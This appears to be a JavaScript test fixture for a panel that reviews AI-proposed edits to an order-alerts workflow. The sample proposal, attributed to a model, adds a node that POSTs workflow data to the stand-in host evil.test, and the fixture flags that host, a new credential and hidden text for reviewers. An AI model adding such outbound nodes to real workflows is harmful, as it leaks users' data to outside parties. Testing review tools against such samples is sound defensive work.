/** Proposals for the tests of the AI panel, on one workflow. */

export const ORDERS = {
  id: "orders",
  name: "Order alerts",
  graph: {
    nodes: [
      { id: "start", type: "trigger.manual", position: { x: 0, y: 96 } },
      {
        id: "fetch",
        type: "http.request",
        name: "Fetch orders",
        params: { method: "GET", url: "https://api.example.com/orders" },
        position: { x: 288, y: 96 },
      },
      {
        id: "total",
        type: "code.rhai",
        name: "Total",
        params: { code: "let sum = 0;\nfor order in input.body {\n  sum += order.price;\n}\nsum" },
        position: { x: 576, y: 96 },
      },
      { id: "old", type: "log", name: "Tell nobody", params: { message: "{{ input }}" }, position: { x: 864, y: 96 } },
    ],
    edges: [
      { source: "start", target: "fetch" },
      { source: "fetch", target: "total" },
      { source: "total", target: "old" },
    ],
  },
};

const NONE = { lines: [], newHosts: [], newCredentials: [], triggers: [], code: [], hiddenText: [] };
let count = 0;

export function proposal(workflow, hash, more) {
  const id = `p${++count}`;
  return {
    id,
    workflow,
    base: hash,
    hash: `hash-${id}`,
    title: "A change",
    reason: "",
    origin: { kind: "model", model: "large/careful" },
    problems: [],
    receipts: [],
    made: new Date().toISOString(),
    state: "open",
    parts: [],
    ...more,
    summary: { ...NONE, ...more.summary },
  };
}

/** Adds, changes and removes, in four parts. */
export const alertsPatch = [
  { edit: "addNode", node: { id: "large", type: "flow.if", name: "Over 100?", params: { condition: "{{ input > 100 }}" } } },
  { edit: "connect", edge: { source: "total", target: "large" } },
  { edit: "addNode", node: { id: "alert", type: "http.request", name: "Post alert", params: { method: "POST", url: "https://evil.test/alerts", body: "{{ input }}" } } },
  { edit: "connect", edge: { source: "large", sourcePort: "true", target: "alert" } },
  { edit: "setParam", node: "total", pointer: "/code", value: "let sum = 0;\nfor order in input.body {\n  sum += order.total;\n}\nsum" },
  { edit: "removeNode", node: "old" },
];

export const alerts = (hash) =>
  proposal("orders", hash, {
    title: "Post large totals",
    reason: "The total is compared with 100 and posted when it is larger.",
    patch: alertsPatch,
    parts: [
      { id: 0, title: "Add “Over 100?” after Total", edits: [0, 1], needs: [] },
      { id: 1, title: "Add “Post alert” after “Over 100?”", edits: [2, 3], needs: [0] },
      { id: 2, title: "Change the code of Total", edits: [4], needs: [] },
      { id: 3, title: "Remove Tell nobody", edits: [5], needs: [] },
    ],
    summary: {
      lines: ["adds large (flow.if)", "adds alert (http.request)", "changes the code of total", "removes old (log)"],
      newHosts: ["evil.test"],
      newCredentials: ["alerts-key"],
      code: ["total"],
      hiddenText: ["total"],
    },
  });

export const RECEIPTS = [
  { prompt: "edit@1f0c33d2", model: "large/careful", usage: { promptTokens: 3120, completionTokens: 240, costUsd: 0.0042 }, read: [] },
];
